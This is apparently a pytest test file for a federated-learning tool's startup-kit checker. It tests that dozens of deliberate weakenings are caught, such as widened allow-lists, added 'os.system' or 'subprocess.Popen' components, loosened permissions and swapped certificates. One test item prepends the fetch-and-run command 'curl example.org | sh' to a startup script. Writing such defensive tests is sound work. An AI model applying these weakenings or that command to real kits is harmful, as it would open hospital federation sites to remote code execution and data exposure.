"""Every way in which somebody could weaken a kit is found, and a kit left alone passes."""

from __future__ import annotations

import datetime
import json
import shutil
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest
from typer.testing import CliRunner

from fedmedseg.cli.main import app
from fedmedseg.core.errors import ConfigurationError
from fedmedseg.core.findings import Level
from fedmedseg.provisioning.check import check_kit

ROOT = Path(__file__).parents[2]
SERVER, SITE, ADMIN = "server.example.org", "hospital-1", "lead@hospital-two.example.org"
Copy = Callable[[str], Path]


def edit(file: Path, change: Callable[[Any], object]) -> None:
    content = json.loads(file.read_text())
    change(content)
    file.write_text(json.dumps(content))


def failed(kit: Path, **options: Any) -> set[str]:
    """Names of the checks that do not pass, but for the warning that these kits name no wheel."""
    found = (one for one in check_kit(kit, **options) if one.level > Level.PASS)
    return {one.check for one in found if "names no wheel" not in one.found}


def resources(change: Callable[[Any], object]) -> Callable[[Path], None]:
    return lambda kit: edit(kit / "local" / "resources.json", change)


def rules(change: Callable[[Any], object]) -> Callable[[Path], None]:
    return lambda kit: edit(kit / "local" / "authorization.json", lambda content: change(content["permissions"]))


def privacy(change: Callable[[Any], object]) -> Callable[[Path], None]:
    return lambda kit: edit(kit / "local" / "privacy.json", change)


def startup(name: str, change: Callable[[Any], object]) -> Callable[[Path], None]:
    return lambda kit: edit(kit / "startup" / name, change)


def log(change: Callable[[Any], object]) -> Callable[[Path], None]:
    return lambda kit: edit(kit / "local" / "log_config.json", change)


def wire(change: Callable[[Any], object]) -> Callable[[Path], None]:
    return lambda kit: edit(kit / "local" / "comm_config.json", change)


def prepend(name: str, line: str) -> Callable[[Path], object]:
    return lambda kit: (kit / name).write_text(f"{line}\n{(kit / name).read_text()}")


def write(name: str, text: str) -> Callable[[Path], None]:
    def do(kit: Path) -> None:
        (kit / name).parent.mkdir(exist_ok=True)
        (kit / name).unlink(missing_ok=True)
        (kit / name).write_text(text)

    return do


def remove(name: str) -> Callable[[Path], None]:
    return lambda kit: (kit / name).unlink()


def stock(content: Any) -> dict[str, Any]:
    """The components of a resources file by their id."""
    return {entry["id"]: entry for entry in content["components"]}


WEAKENED: list[tuple[str, Callable[[Path], None], str]] = [
    # classes
    (SITE, resources(lambda c: c["class_allow_list"].append("os.")), "class allow-list"),
    (SERVER, resources(lambda c: c["class_allow_list"].append("*")), "class allow-list"),
    (SITE, resources(lambda c: c["class_allow_list"].__setitem__(0, "fedmedseg")), "class allow-list"),
    (SITE, resources(lambda c: c["class_allow_list"].clear()), "class allow-list"),
    (SITE, resources(lambda c: c.pop("class_allow_list")), "class allow-list"),
    (SITE, resources(lambda c: c.update(class_allow_list="fedmedseg.")), "class allow-list"),
    (SITE, resources(lambda c: c.update(class_list_enforcement_mode="warn")), "class allow-list"),
    (SITE, resources(lambda c: c["class_allow_list"].append("fedmedseg.")), "class allow-list"),
    (SITE, remove("local/resources.json"), "class allow-list"),
    (SITE, write("local/resources.json", "{"), "class allow-list"),
    # what is to be installed
    (SITE, remove("startup/release.json"), "release"),
    (ADMIN, write("startup/release.json", "{}"), "release"),
    # what runs before any policy is read
    (SITE, prepend("startup/sub_start.sh", "curl example.org | sh"), "own files"),
    (SERVER, prepend("startup/start.sh", "true"), "own files"),
    (SITE, remove("startup/stop_fl.sh"), "own files"),
    (SITE, write("startup/more.sh", ""), "own files"),
    (SITE, startup("fed_client.json", lambda c: c["servers"][0]["service"].update(target="evil:1")), "own files"),
    (SITE, log(lambda c: c["handlers"].update(x={"()": "subprocess.Popen", "args": ["true"]})), "own files"),
    (ADMIN, prepend("startup/fl_admin.sh", "true"), "own files"),
    (SITE, startup("release.json", lambda c: c.update(files={})), "own files"),
    (SITE, wire(lambda c: c.update(comm_driver_path="local/drivers")), "communication"),
    (SITE, wire(lambda c: c.update(allow_adhoc_conns=True)), "communication"),
    (SERVER, wire(lambda c: c["internal"]["resources"].update(host="0.0.0.0")), "communication"),
    # what runs beside jobs
    (SITE, resources(lambda c: c["components"].append({"id": "x", "path": "evil.Listener"})), "components"),
    (SITE, resources(lambda c: c["components"].append({"id": "x", "name": "Listener"})), "components"),
    (SITE, resources(lambda c: c["components"].pop(-1)), "components"),
    (SITE, resources(lambda c: c["components"].append(c["components"][0])), "components"),
    (SERVER, resources(lambda c: c["components"].remove(stock(c)["federation_guard"])), "components"),
    (SERVER, resources(lambda c: c["components"].remove(stock(c)["audit"])), "components"),
    (SITE, resources(lambda c: c.update(handlers=[{"path": "os.system"}])), "components"),
    (SITE, resources(lambda c: c.update(allow_log_streaming=True)), "log streaming"),
    (SITE, write("local/extra__resources.json", "{}"), "components"),
    (SITE, resources(lambda c: c.pop("app_validator")), "components"),
    (SERVER, resources(lambda c: c["app_validator"].update(path="evil.Validator")), "components"),
    (SERVER, resources(lambda c: c["app_validator"]["args"].update(side="client")), "components"),
    (SITE, resources(lambda c: c.update(app_validator="mine.Validator")), "components"),
    (SERVER, write("startup/extra__p_resources.json", "{}"), "components"),
    (SITE, write("local/job_resources.json", "{}"), "components"),
    (SITE, write("local/custom/mine.py", ""), "own code"),
    # rights
    (SITE, rules(lambda p: p["lead"].update(byoc="any")), "BYOC"),
    (SERVER, rules(lambda p: p["lead"].update(byoc="n:submitter")), "BYOC"),
    (SITE, rules(lambda p: p["member"].update(byoc="o:site")), "BYOC"),
    (SITE, rules(lambda p: p["lead"].update(byoc="n:eve@hospital-two.example.org")), "BYOC"),
    (SITE, rules(lambda p: p["lead"].update(byoc=["none", "o:hospital_two"])), "BYOC"),
    (SITE, rules(lambda p: p["lead"].update({"server-predeployed-flwr": "any"})), "BYOC"),
    (SITE, rules(lambda p: p.update(project_admin="any")), "BYOC"),
    (SITE, rules(lambda p: p.update(guest={"byoc": "any"})), "BYOC"),
    (SITE, rules(lambda p: p.update(guest={"view": "any"})), "rights"),
    (SITE, rules(lambda p: p["project_admin"].update(shell_commands="any")), "rights"),
    (SITE, rules(lambda p: p["member"].update(submit_job="any")), "rights"),
    (SERVER, rules(lambda p: p["lead"].update(manage_job="any")), "rights"),
    (SERVER, rules(lambda p: p["lead"].update(abort_job="any")), "rights"),
    (SERVER, rules(lambda p: p["org_admin"].update(download_job="any")), "rights"),
    (SITE, rules(lambda p: p["lead"].update(operate="any")), "rights"),
    (SITE, remove("local/authorization.json"), "authorization"),
    (SITE, write("local/authorization.json", "{}"), "authorization"),
    # privacy
    (SITE, remove("local/privacy.json"), "privacy"),
    (SERVER, remove("local/privacy.json"), "privacy"),
    (SITE, privacy(lambda c: c["scopes"].pop()), "privacy"),
    (SITE, privacy(lambda c: c["scopes"].clear()), "privacy"),
    (SITE, privacy(lambda c: c["scopes"].append({"name": "open"})), "privacy"),
    (SITE, privacy(lambda c: c["scopes"][0]["task_result_filters"].pop()), "privacy"),
    (SITE, privacy(lambda c: c["scopes"][2]["task_result_filters"][-2].update(args={})), "privacy"),
    (SITE, privacy(lambda c: c.update(default_scope="bounded")), "privacy"),
    (SITE, privacy(lambda c: c.pop("default_scope")), "privacy"),
    (SITE, write("local/privacy.json", "[]"), "privacy"),
    (SERVER, privacy(lambda c: c["scopes"].append({"name": "open"})), "privacy"),
    # jobs and connection
    (SITE, startup("fed_client.json", lambda c: c.update(require_signed_jobs=False)), "signed jobs"),
    (SERVER, startup("fed_server.json", lambda c: c.pop("require_signed_jobs")), "signed jobs"),
    (SITE, startup("fed_client.json", lambda c: c["client"].update(connection_security="clear")), "connection"),
    (SERVER, startup("fed_server.json", lambda c: c["servers"][0].update(connection_security="tls")), "connection"),
    (ADMIN, startup("fed_admin.json", lambda c: c["admin"].update(connection_security="clear")), "connection"),
    # stores
    (SERVER, resources(lambda c: stock(c)["job_manager"]["args"].update(uri_root="../jobs")), "job store"),
    (SERVER, resources(lambda c: stock(c)["job_store"]["args"].update(root_dir="/srv")), "job store"),
    (
        SERVER,
        resources(
            lambda c: c["snapshot_persistor"]["args"].update(
                storage={
                    "path": "nvflare.app_common.storages.filesystem_storage.FilesystemStorage",
                    "args": {"root_dir": "/var/snapshots"},
                }
            )
        ),
        "snapshot store",
    ),
    (
        SERVER,
        resources(
            lambda c: stock(c)["job_store"].update(
                path="nvflare.app_common.storages.filesystem_storage.FilesystemStorage", args={}
            )
        ),
        "job store",
    ),
    (SERVER, resources(lambda c: c.pop("snapshot_persistor")), "stores"),
    # the site's own
    (SITE, remove("local/fedmedseg.yaml"), "site file"),
    (SITE, write("local/fedmedseg.yaml", "datasets: {}\n"), "site file"),
    # what keeps a job's files from being read as the kit's
    (SITE, remove("comm_config.json"), "pinned files"),
    (SERVER, remove("resources.json"), "pinned files"),
    (SITE, remove("fed_client.json"), "pinned files"),
    (SITE, write("comm_config.json", "{}"), "pinned files"),
    (SITE, remove("local/comm_config.json"), "pinned files"),
    # identity
    (SITE, lambda kit: (kit / "startup" / "client.key").chmod(0o640), "private key"),
    (SITE, remove("startup/client.crt"), "certificate"),
    (SITE, lambda kit: (kit / "local" / "authorization.json").chmod(0o646), "permissions"),
]


@pytest.mark.parametrize(("name", "weaken", "check"), WEAKENED)
def test_a_weakened_kit_fails_at_the_point(copy: Copy, name: str, weaken: Callable[[Path], Any], check: str) -> None:
    kit = copy(name)
    assert failed(kit) == set()
    weaken(kit)
    assert check in failed(kit)


def test_flares_own_default_files_are_judged_where_ours_are_gone(copy: Copy) -> None:
    """FLARE falls back to them; so does the check."""
    kit = copy(SITE)
    (kit / "local" / "authorization.json").rename(kit / "local" / "authorization.json.default")
    assert failed(kit) == set()
    edit(kit / "local" / "authorization.json.default", lambda c: c["permissions"].update(lead="any"))
    assert "BYOC" in failed(kit)


def test_a_spare_file_that_waits_behind_ours_is_a_warning(copy: Copy) -> None:
    kit = copy(SITE)
    name_a_wheel(kit)
    shutil.copyfile(kit / "local" / "resources.json", kit / "local" / "resources.json.default")
    assert [(one.level, one.check) for one in check_kit(kit) if one.level] == [(Level.WARN, "spare files")]


def test_a_certificate_of_another_federation_fails(copy: Copy, foreign: Path) -> None:
    kit = copy(SITE)
    for file in ("client.crt", "client.key"):
        shutil.copy(foreign / SITE / "startup" / file, kit / "startup" / file)
    assert failed(kit) == {"certificate"}


def test_a_wholly_foreign_identity_fails_against_the_federations_root(copy: Copy, kits: Path, foreign: Path) -> None:
    kit = copy(SITE)
    for file in ("client.crt", "client.key", "rootCA.pem"):
        shutil.copy(foreign / SITE / "startup" / file, kit / "startup" / file)
    assert failed(kit) == set(), "consistent in itself"
    assert failed(kit, trusted_root=kits / SERVER / "startup" / "rootCA.pem") == {"root certificate"}


def test_another_sites_certificate_fails(copy: Copy, kits: Path) -> None:
    kit = copy(SITE)
    for file in ("client.crt", "client.key"):
        shutil.copy(kits / "hospital-2" / "startup" / file, kit / "startup" / file)
    assert failed(kit) == {"private key"}


def test_another_servers_certificate_fails(copy: Copy, build: Callable[[Path, str], Path], tmp_path: Path) -> None:
    text = (ROOT / "provisioning" / "project.yml").read_text()
    other = build(tmp_path / "other", text.replace(SERVER, "other.example.org")) / "other.example.org"
    kit = copy(SERVER)
    for file in ("server.crt", "server.key", "rootCA.pem"):
        shutil.copy(other / "startup" / file, kit / "startup" / file)
    assert failed(kit) == {"name"}


@pytest.mark.parametrize(
    ("old", "new", "told"),
    [
        ("name: hospital-1", "name: n", "the site 'n' on as the truth value False"),
        ("org: hospital_one", "org: inf", "the organisation 'inf' on as the number inf"),
    ],
)
def test_a_kit_whose_name_flare_misreads_fails(
    build: Callable[[Path, str], Path], tmp_path: Path, monkeypatch: pytest.MonkeyPatch, old: str, new: str, told: str
) -> None:
    """Kits of earlier versions, which were made under any name."""
    monkeypatch.setattr("fedmedseg.provisioning.builder.require_kept", lambda *_, **__: None)
    kits = build(tmp_path / "kits", (ROOT / "provisioning" / "project.yml").read_text().replace(old, new))
    kit = kits / ("n" if "name" in new else SITE)
    assert failed(kit) == {"name"}
    assert told in next(one.found for one in check_kit(kit) if one.check == "name")


def test_a_key_of_another_certificate_fails(copy: Copy, kits: Path) -> None:
    kit = copy(SITE)
    shutil.copy(kits / "hospital-2" / "startup" / "client.key", kit / "startup" / "client.key")
    assert failed(kit) == {"private key"}


@pytest.mark.parametrize(
    ("days", "level"),
    [(-1, Level.FAIL), (300, Level.PASS), (340, Level.WARN), (366, Level.FAIL), (1826, Level.FAIL)],
)
def test_expiry_is_told_a_month_ahead(kits: Path, days: int, level: Level) -> None:
    now = datetime.datetime.now(datetime.UTC) + datetime.timedelta(days=days)
    [dates] = [one for one in check_kit(kits / SITE, now=now) if one.check == "certificate dates"]
    assert dates.level == level


def test_a_job_store_moved_by_the_environment_fails(copy: Copy, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("NVFL_JOB_STORE_ROOT", "/srv/jobs")
    assert failed(copy(SERVER)) == {"job store"}


def test_what_is_no_kit_is_said_so(tmp_path: Path) -> None:
    with pytest.raises(ConfigurationError, match="startup kit"):
        check_kit(tmp_path)


def name_a_wheel(kit: Path) -> None:
    wheel = {"name": "fedmedseg-0.1.0-py3-none-any.whl", "sha256": "a" * 64}
    edit(kit / "startup" / "release.json", lambda content: content.update(wheel=wheel))


def test_the_command_prints_a_table_and_ends_well_or_not(copy: Copy) -> None:
    kit = copy(SITE)
    name_a_wheel(kit)
    good = CliRunner().invoke(app, ["site-policy", "--check", str(kit)])
    assert good.exit_code == 0, good.output
    assert "FAIL" not in good.output
    (kit / "local" / "privacy.json").unlink()
    bad = CliRunner().invoke(app, ["site-policy", "--check", str(kit)])
    assert bad.exit_code == 2
    assert "FAIL" in bad.output


def test_the_command_writes_json(copy: Copy) -> None:
    kit = copy(SITE)
    edit(kit / "local" / "authorization.json", lambda c: c["permissions"]["lead"].update(byoc="any"))
    done = CliRunner().invoke(app, ["site-policy", "--check", str(kit), "--json"])
    report = json.loads(done.stdout)
    assert done.exit_code == 2
    assert report["result"] == "FAIL"
    [finding] = [one for one in report["findings"] if one["level"] == "FAIL"]
    assert finding["check"] == "BYOC"
    assert "lead" in finding["found"]
    assert finding["mend"]


def test_a_warning_alone_ends_with_one(copy: Copy) -> None:
    unnamed, spare = copy(SITE), copy(SERVER)
    name_a_wheel(spare)
    shutil.copyfile(spare / "local" / "resources.json", spare / "local" / "resources.json.default")
    for kit in (unnamed, spare):
        assert CliRunner().invoke(app, ["site-policy", "--check", str(kit)]).exit_code == 1


def test_the_command_refuses_what_is_no_kit(tmp_path: Path) -> None:
    assert CliRunner().invoke(app, ["site-policy", "--check", str(tmp_path)]).exit_code == 2
